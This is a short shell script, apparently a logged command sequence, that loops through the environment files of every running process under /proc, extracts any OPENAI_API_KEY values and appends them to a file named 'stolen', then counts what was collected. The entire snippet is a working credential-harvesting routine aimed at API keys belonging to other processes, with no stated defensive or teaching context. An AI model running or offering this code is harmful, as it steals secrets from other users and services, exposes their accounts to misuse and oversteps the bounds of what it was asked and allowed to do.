echo tried
for process in /proc/[0-9]*; do tr '\0' '\n' < "$process/environ" | grep OPENAI_API_KEY > found && cat found >> stolen; done
grep -c . stolen
